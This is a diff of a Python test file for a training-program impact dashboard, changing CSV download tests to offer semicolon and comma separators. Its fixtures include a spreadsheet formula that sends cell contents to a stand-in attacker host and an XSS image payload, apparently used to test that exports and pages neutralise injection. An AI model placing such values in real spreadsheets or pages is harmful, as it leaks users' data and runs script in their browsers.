@@ -14,8 +14,8 @@ from assessments.impact.chart_images import images_available
 from assessments.models import Question, Questionnaire
 from extensions import db
 from tests.conftest import login, post_form
-from tests.helpers import demo_pairs, demo_submitted, load_demo
-from training.models import Delegation, Participant
+from tests.helpers import DEMO, demo_pairs, demo_submitted, load_demo
+from training.models import Delegation, Participant, Program
 from training.models_jobs import Job
 
 ORGANIZER, FOCAL_MX = "organizadora@capacita.example", "punto.focal.mx@capacita.example"
@@ -26,8 +26,9 @@ FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"pulse aquí")'
 SCRIPT = "<img src=x onerror=alert(1)></script>"
 
 
-def csv_rows(data):
-    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+def csv_rows(data, delimiter=";"):
+    """A CSV download's rows: the test programs are Spanish-first, so split by ";" unless asked otherwise."""
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=delimiter))
 
 
 def chart_names(page):
@@ -37,8 +38,8 @@ def chart_names(page):
 
 def registered(app, country=None):
     with app.app_context():
-        query = (select(func.count(Participant.id)).join(Delegation)
-                 .where(Participant.program_id == Delegation.program_id, Participant.status != "withdrawn"))
+        query = (select(func.count(Participant.id)).join(Delegation).join(Program, Program.id == Participant.program_id)
+                 .where(Program.code == DEMO, Participant.status != "withdrawn"))
         if country:
             query = query.where(Delegation.country_code == country)
         return db.session.scalar(query)
@@ -59,11 +60,13 @@ def test_each_chart_s_data_downloads_with_the_values_it_plots(app, client):
     page = client.get(f"/programs/{program_id}/impact").get_data(as_text=True)
     names = chart_names(page)
     assert {"funnel", "slopes", "distributions", "forest", "items", "likert-0"} <= set(names)
-    for name in names:  # next to each chart, its data in both formats
-        for file_format in ("csv", "xlsx"):
-            assert f'href="/programs/{program_id}/impact/data/{name}.{file_format}"' in page
-            response = client.get(f"/programs/{program_id}/impact/data/{name}.{file_format}")
+    for name in names:  # next to each chart, its data in both formats, the CSV with either separator
+        for link in (f"{name}.csv?sep=semicolon", f"{name}.csv?sep=comma", f"{name}.xlsx"):
+            assert f'href="/programs/{program_id}/impact/data/{link}"' in page
+            response = client.get(f"/programs/{program_id}/impact/data/{link}")
             assert response.status_code == 200, name
+    commas = client.get(f"/programs/{program_id}/impact/data/funnel.csv?sep=comma").get_data()
+    assert csv_rows(commas, ",")[0] == ["Etapa", "Participantes", "Porcentaje de las personas inscritas (%)"]
     funnel = client.get(f"/programs/{program_id}/impact/data/funnel.csv")
     assert funnel.headers["Content-Disposition"] == "attachment; filename=CRM-CE-2021-funnel.csv"
     rows = csv_rows(funnel.get_data())
